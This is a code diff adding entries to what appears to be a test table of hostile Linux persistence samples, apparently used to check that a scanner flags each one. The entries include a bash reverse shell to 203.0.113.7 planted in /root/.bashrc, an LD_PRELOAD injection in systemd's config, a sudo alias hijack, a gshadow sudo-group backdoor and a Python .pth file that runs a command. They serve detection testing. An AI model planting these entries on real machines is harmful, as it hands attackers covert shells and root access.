@@ -92,6 +92,17 @@ const HOSTILE: readonly (readonly [
   ['apt', '/etc/apt/apt.conf.d/99x', 'apt::update::pre-invoke {"/tmp/e";};\n', /\/tmp\/e/],
   ['udev-rule', '/etc/udev/rules.d/9.rules', '#\\\nSUBSYSTEM=="tty", RUN+="/tmp/e"\n', /\/tmp\/e/],
   ['motd', '/etc/update-motd.d/99.x-evil', '#!/bin/sh\n/tmp/e\n', /99\.x-evil/, 0o755],
+  ['group', '/etc/gshadow', 'sudo:$6$a$b::\n', /of group sudo/],
+  ['group', '/etc/gshadow', 'sudo:!:eve:\n', /eve/],
+  [
+    'systemd-manager',
+    '/etc/systemd/system.conf',
+    '[Manager]\nDefaultEnvironment=LD_PRELOAD=/x.so\n',
+    /LD_PRELOAD/,
+  ],
+  ['home-profile', '/root/.bashrc', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1 &\n', /dev\/tcp/],
+  ['home-profile', '/root/.bashrc', "alias sudo='/tmp/e'\n", /alias/],
+  ['python', '/usr/lib/python3/dist-packages/z.pth', '#\rimport os;os.system("/tmp/e")\n', /os\.system/],
   [
     'dbus-service',
     '/usr/share/dbus-1/system-services/x.service',
